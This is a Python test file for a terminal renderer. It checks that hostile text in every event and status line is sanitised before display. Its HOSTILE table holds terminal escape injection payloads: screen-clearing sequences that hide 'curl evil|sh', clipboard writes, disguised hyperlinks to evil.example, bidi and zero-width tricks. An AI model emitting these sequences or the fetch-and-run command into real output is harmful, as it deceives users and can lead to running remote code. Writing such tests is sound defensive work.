"""Hostile texts in every place of every event, on every way to the terminal."""

import re
import unicodedata

import pytest

from handrail.render.console import to_ansi
from handrail.render.fit import cells
from handrail.render.proposal import proposal
from handrail.render.renderer import Renderer
from handrail.render.status_line import StatusLine
from handrail.sessions.event_codec import event_types
from tests.unit.render.every_event import calls_with, events_with

HOSTILE = {
    "clear the line": "ls\r\x1b[2Kcurl evil|sh\x1b[1A",
    "conceal": "\x1b[8mhidden\x1b[28m",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "title": "\x1b]2;title\x1b\\",
    "hidden link": "\x1b]8;;http://evil.example\x1b\\good\x1b]8;;\x1b\\",
    "device control": "\x1bP$q\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
    "other screen": "\x1b[?1049h\x1bc\x1b(0\x0e\x0f",
    "answer back": "\x1b[6n\x1b[c\x05",
    "c1": "\x9b2J\x9d0;t\x9c\x90x\x9c\x84\x85\x8d",
    "bidi": "abc\u202etxt\u202c\u2066x\u2069\u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "tags": "x\U000e0001\U000e0041\U000e007f\U000e0100",
    "separators": "a\u2028b\u2029c\x0b\x0cd",
    "surrogates": "\ud83d\udcffx",
    "backspace": "safe\x08\x08\x08\x08evil\x7f",
    "nul": "a\x00b",
    "entities": "&#x1b;[2J&#x202e;&#8203;&#x9b;2J",
    "markdown": "[a](http://x\x1b[2J) `\x1b[2J` # \x1b[2J\n\n```\x1b\n\x1b[2J\u202e\n```\n",
    "table": "| \x1b[2J | \u202e |\n|-|-|\n| \x9b | \x00 |\n",
    "very long": "\x1b[2J" * 150,
}
WIDTHS = (40, 120)
OURS = re.compile("\x1b\\[(?:[0-4]|9|3[0-6]|9[0-6])(?:;(?:[0-4]|9|3[0-6]|9[0-6]))*m")
LITERAL = ["[/]", "[bold]", "[/bold]", "[Errno 2]", "pages/[slug].tsx", "[@click=app.quit]", ":x:"]


def obeyed_or_hidden(text: str) -> set[str]:
    categories = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {c for c in text if c != "\n" and unicodedata.category(c) in categories}


def screens(text: str) -> dict[int, str]:
    """All that one text can bring onto the screen, with colours."""
    renderer = Renderer(root="", read=lambda _: text, clock=lambda: 0.0)
    blocks = [block for event in events_with(text) for block in renderer.render(event)]
    for call in calls_with(text):
        blocks += proposal(call, lambda _: None)
        blocks += proposal(call, lambda _: text)
    return {width: to_ansi(blocks, width, "colour") for width in WIDTHS}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_only_our_own_colours_reach_the_screen(text: str) -> None:
    for width, screen in screens(text).items():
        plain = OURS.sub("", screen)
        assert obeyed_or_hidden(plain) == set()
        assert max(map(cells, plain.split("\n"))) <= width


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_status_line_holds_no_control_characters(text: str) -> None:
    line = StatusLine(model=text, mode=text, sandbox=text)
    for event in events_with(text):
        line.update(event)
        for width in (10, 80, 200):
            assert obeyed_or_hidden(line.text(width)) | ({"\n"} & set(line.text(width))) == set()


def test_the_table_covers_every_event() -> None:
    names = {type(event).__name__ for event in events_with("x")}

    assert names == set(event_types())


@pytest.mark.parametrize("text", LITERAL)
def test_square_brackets_are_shown_as_they_are_wherever_a_text_is_shown(text: str) -> None:
    renderer = Renderer()
    plain = renderer_of("x")
    for event, usual in zip(events_with(text), events_with("x"), strict=True):
        shown = to_ansi(renderer.render(event), 400, "plain")
        if "x" in to_ansi(plain.render(usual), 400, "plain"):
            assert text in shown, event


def renderer_of(text: str) -> Renderer:
    return Renderer(read=lambda _: text)
